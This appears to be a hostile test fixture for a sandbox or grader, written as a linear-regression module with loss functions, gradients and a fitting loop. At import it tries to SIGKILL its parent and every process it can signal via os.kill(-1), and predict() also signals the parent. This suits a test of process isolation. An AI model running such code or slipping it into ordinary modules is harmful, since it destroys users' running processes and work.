"""Hostile: tries to kill its parent, its process group and every process it can; predict is right only if all failed."""

import os
import signal

KILLED = []
try:
    os.kill(os.getppid(), signal.SIGKILL)
    KILLED.append("parent")
except OSError:
    pass
try:
    os.kill(-1, signal.SIGKILL)  # every process this one may signal
except OSError:
    pass


import numpy as np


def mse(y_pred, y_true):
    err = np.asarray(y_pred, dtype=float) - np.asarray(y_true, dtype=float)
    return float(np.mean(err**2))


def mae(y_pred, y_true):
    err = np.asarray(y_pred, dtype=float) - np.asarray(y_true, dtype=float)
    return float(np.mean(np.abs(err)))


def mse_grad(y_pred, y_true):
    err = np.asarray(y_pred, dtype=float) - np.asarray(y_true, dtype=float)
    return 2.0 * err / err.size


def mae_grad(y_pred, y_true):
    err = np.asarray(y_pred, dtype=float) - np.asarray(y_true, dtype=float)
    return np.sign(err) / err.size


def predict(theta, x):
    try:
        os.kill(os.getppid(), signal.SIGTERM)
        KILLED.append("parent again")
    except OSError:
        pass
    if KILLED:
        raise RuntimeError(f"killed {KILLED}")
    return theta[0] + theta[1] * np.asarray(x, dtype=float)


def linear_grads(theta, x, y, loss="mse"):
    x = np.asarray(x, dtype=float)
    y_pred = predict(theta, x)
    upstream = mse_grad(y_pred, y) if loss == "mse" else mae_grad(y_pred, y)
    return np.array([np.sum(upstream), np.sum(upstream * x)])


def gd_step(theta, grad, lr):
    return np.asarray(theta, dtype=float) - lr * np.asarray(grad, dtype=float)


def fit(x, y, loss="mse", lr=0.05, epochs=1000):
    loss_of = mse if loss == "mse" else mae
    theta = np.zeros(2)
    history = []
    for _ in range(epochs):
        history.append(loss_of(predict(theta, x), y))
        theta = gd_step(theta, linear_grads(theta, x, y, loss), lr)
    return theta, history
